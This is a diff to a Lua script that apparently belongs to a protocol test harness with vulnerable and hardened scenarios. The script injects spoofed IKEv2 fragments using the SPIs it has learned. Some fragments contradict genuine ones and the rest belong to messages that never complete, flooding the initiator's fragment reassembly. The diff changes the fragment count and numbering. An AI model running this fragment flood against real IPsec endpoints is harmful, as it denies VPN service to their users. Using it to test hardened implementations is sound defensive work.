@@ -13,8 +13,8 @@ attack = {
   scenarios = { vulnerable = "fragment-flood", hardened = "fragment-flood-checked" },
 }
 
--- Parameter: count = 60
-local count, up, sent = 60, false, 0
+-- Parameter: count = 70
+local count, up, sent = 70, false, 0
 function on_start(params) count = tonumber(params.count or count) end
 
 on({ exchange = "IKE_SA_INIT", response = true, payload = "KE" }, function(p, message)
@@ -22,10 +22,10 @@ on({ exchange = "IKE_SA_INIT", response = true, payload = "KE" }, function(p, me
   mark("IKE_SA_INIT is answered: the SPIs are known, and mallory is ready before the initiator is.")
   for i = 1, count do
     sent = sent + 1
-    -- Next Payload 35 (IDi) in the first fragment only; number i of 3 or of many
-    local body = string.pack(">I2I2", 1 + (i - 1) % 3, i <= 3 and 3 or 3 + i) .. crypto.random(100)
+    -- the first ones contradict the genuine fragments 1 and 2; the rest are of messages that never become whole
+    local body = string.pack(">I2I2", i <= 2 and i or 1, i <= 2 and 3 or 9) .. crypto.random(100)
     inject{ src = p.dst, src_port = p.dst_port, dst = p.src, dst_port = p.src_port, protocol = "IKE", to = p.from, note = "a fragment of junk",
-      payload = ike.encode{ spi_i = message.spi_i, spi_r = message.spi_r, exchange = 35, initiator = true, message_id = i <= 3 and 1 or i,
+      payload = ike.encode{ spi_i = message.spi_i, spi_r = message.spi_r, exchange = 35, initiator = true, message_id = i <= 2 and 1 or i,
         payloads = { { number = 53, body = body } } } }
   end
 end)
